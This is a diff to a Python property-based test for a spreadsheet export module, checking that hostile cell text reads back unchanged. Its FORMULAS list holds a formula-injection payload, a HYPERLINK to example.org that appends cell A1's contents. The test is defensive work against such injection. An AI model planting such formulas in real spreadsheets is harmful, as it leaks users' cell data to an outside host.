@@ -19,7 +19,7 @@ from openpyxl import load_workbook
 
 from kidesk.exchange import csv_file, tables, workbook
 from kidesk.exchange.outgoing import Column, Losses, Outgoing, Value
-from kidesk.i18n import Language
+from kidesk.i18n import Language, seen
 
 FORMULAS = [
     '=HYPERLINK("http://example.org/?"&A1;"click")',
@@ -107,7 +107,8 @@ HOSTILE = st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from(TELLIN
 @example([("'=1", "''=1"), ("=\n1", "-\t;\"\""), ("=\u0338", " '=1"), ("\x01\t", "\t=1")])
 def test_any_text_is_read_back_as_it_was(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
     clean = Losses()
-    wanted = [tuple(unicodedata.normalize("NFC", clean.legal(cell).strip()) for cell in row) for row in rows]
+    texts = [[seen(clean.legal(cell).strip()).strip() for cell in row] for row in rows]
+    wanted = [tuple(unicodedata.normalize("NFC", cell) for cell in row) for row in texts]
     assert read_back(tmp_path, table([["x", *row] for row in rows], columns=3)) == [("x", *row) for row in wanted]
 
 
